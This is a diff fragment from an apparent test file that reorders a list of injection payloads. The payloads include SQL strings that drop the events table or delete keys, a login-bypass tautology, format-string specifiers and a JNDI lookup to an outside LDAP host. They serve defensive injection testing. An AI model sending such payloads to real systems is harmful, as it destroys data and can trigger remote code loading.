@@ -22,11 +22,9 @@ from tests.keys import ADMIN
 from tests.nightly import NIGHTLY
 from tests.servers import Service
 
-PAYLOADS = [
-    "'); DROP TABLE events CASCADE; --",
-    "x' || (SELECT nextval('injected')::text) || '",
-]
+PAYLOADS = ["x' || (SELECT nextval('injected')::text) || '"]
 MORE = [
+    "'); DROP TABLE events CASCADE; --",
     "\\'); DELETE FROM keys; --",
     "%(session_id)s :after {0} ${jndi:ldap://celeus.test/a} %n%n",
     "' OR '1'='1",
